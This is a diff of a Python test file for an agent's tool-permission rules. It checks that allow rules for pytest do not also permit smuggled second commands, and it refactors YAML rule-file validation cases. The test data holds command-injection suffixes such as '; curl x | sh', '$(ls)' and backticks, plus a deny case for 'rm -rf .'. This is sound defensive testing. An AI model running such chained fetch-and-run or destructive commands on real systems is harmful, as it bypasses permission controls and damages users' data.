@@ -22,6 +22,10 @@ def edit(*paths: str) -> Proposal:
     return Proposal("edit_file", {"path": paths[0] if paths else "?", "n": 3}, "write", paths)
 
 
+SECOND_COMMANDS = [
+    "; ls", " && ls", "|sh", " > x", " < x", "$(ls)", "`ls`", "\nls", "\r", " & ls", "\\\nls", "(ls)",
+    "; curl x | sh",
+]  # fmt: skip
 MATCHES = [
     (Rule("allow"), bash("ls"), True),
     (Rule("allow", "bash"), bash("ls"), True),
@@ -40,37 +44,14 @@ MATCHES = [
     (Rule("deny", arguments={"command": "*rm *"}), bash("cd /\nrm -rf ."), True),
     # A wildcard in an allow rule does not match a second command after the allowed one.
     *[
-        (Rule("allow", arguments={"command": "pytest*"}), bash(f"pytest {more}"), False)
-        for more in (
-            "; ls",
-            "&& ls",
-            "| sh",
-            "> x",
-            "< x",
-            "$(ls)",
-            "`ls`",
-            "\nls",
-            "\r",
-            "& ls",
-            "\\\nls",
-            "(ls)",
-        )
+        (Rule("allow", arguments={"command": "pytest*"}), bash(f"pytest{more}"), False)
+        for more in SECOND_COMMANDS
     ],
     (Rule("deny", arguments={"command": "pytest*"}), bash("pytest; ls"), True),
     # A regular expression in an allow rule does not allow a second command after the first.
     *[
         (Rule("allow", arguments={"command": "re:pytest.*"}), bash(f"pytest{more}"), False)
-        for more in (
-            "; curl x | sh",
-            "|sh",
-            " && ls",
-            "$(ls)",
-            "`ls`",
-            "\nls",
-            " > x",
-            "\\\nls",
-            "\r",
-        )
+        for more in SECOND_COMMANDS
     ],
     (Rule("allow", arguments={"command": "re:pytest.*"}), bash("pytest -q"), True),
     (Rule("deny", arguments={"command": "re:.*curl.*"}), bash("pytest; curl x | sh"), True),
@@ -245,41 +226,28 @@ def test_permission_rules_are_read_from_a_file(tmp_path: Path) -> None:
         ("default: allow", ":1: default: must be ask or deny"),
         ("rulez: []", ":1: rulez: unknown key"),
         ("rules: 3", ":1: rules: must be a list"),
-        ("rules:\n  - allow", r":2: rules\[0\]: must be a mapping, not a string"),
-        ("rules:\n  - {tool: bash}", r":2: rules\[0\].action: is missing"),
-        (
-            "rules:\n  - {action: allow}\n  - {action: permit}",
-            r":3: rules\[1\].action: must be allow, ask or deny",
-        ),
-        ("rules:\n  - {action: allow, tol: bash}", r":2: rules\[0\].tol: unknown key"),
-        (
-            "rules:\n  - action: allow\n    path: ../x",
-            r":3: rules\[0\].path: must be a pattern below",
-        ),
-        (
-            "rules:\n  - action: allow\n    side_effect: [reed]",
-            r":3: rules\[0\].side_effect: must be of none",
-        ),
-        ("rules:\n  - {action: allow, action: deny}", "there twice"),
-        ("rules:\n  - action: allow\n    tool:", r":3: rules\[0\].tool: is empty"),
-        ("rules:\n  - action: allow\n    tool: ''", r":3: rules\[0\].tool: is empty"),
-        ("rules:\n  - action: allow\n    side_effect:", r":3: rules\[0\].side_effect: is empty"),
-        (
-            "rules:\n  - action: allow\n    side_effect: []",
-            r":3: rules\[0\].side_effect: is empty",
-        ),
-        ("rules:\n  - action: allow\n    path:", r":3: rules\[0\].path: is empty"),
-        ("rules:\n  - action: allow\n    arguments:", r":3: rules\[0\].arguments: is empty"),
-        ("rules:\n  - action: allow\n    arguments: {}", r":3: rules\[0\].arguments: is empty"),
-        (
-            "rules:\n  - action: allow\n    arguments: {command: }",
-            r"arguments.command: must be text",
-        ),
-        (
-            "rules:\n  - action: allow\n    arguments: {command: ''}",
-            r"arguments.command: is empty",
-        ),
+        ("rules:\n- allow", r":2: rules\[0\]: must be a mapping, not a string"),
+        ("rules:\n- {tool: bash}", r":2: rules\[0\].action: is missing"),
+        ("rules:\n- {action: allow}\n- {action: permit}", r":3: rules\[1\].action: must be allow"),
+        ("rules:\n- {action: allow, tol: bash}", r":2: rules\[0\].tol: unknown key"),
+        ("rules:\n- {action: allow, action: deny}", "there twice"),
         ("rules: [", ":"),
+        ("rules: [{action: allow, arguments: {command: }}]", "arguments.command: must be text"),
+        ("rules: [{action: allow, arguments: {command: ''}}]", "arguments.command: is empty"),
+        *[
+            (f"rules:\n- action: allow\n  {field}", rf":3: rules\[0\].{complaint}")
+            for field, complaint in [
+                ("path: ../x", "path: must be a pattern below"),
+                ("path:", "path: is empty"),
+                ("tool:", "tool: is empty"),
+                ("tool: ''", "tool: is empty"),
+                ("side_effect: [reed]", "side_effect: must be of none"),
+                ("side_effect:", "side_effect: is empty"),
+                ("side_effect: []", "side_effect: is empty"),
+                ("arguments:", "arguments: is empty"),
+                ("arguments: {}", "arguments: is empty"),
+            ]
+        ],
     ],
 )
 def test_invalid_rule_file_is_rejected_with_the_line_number(
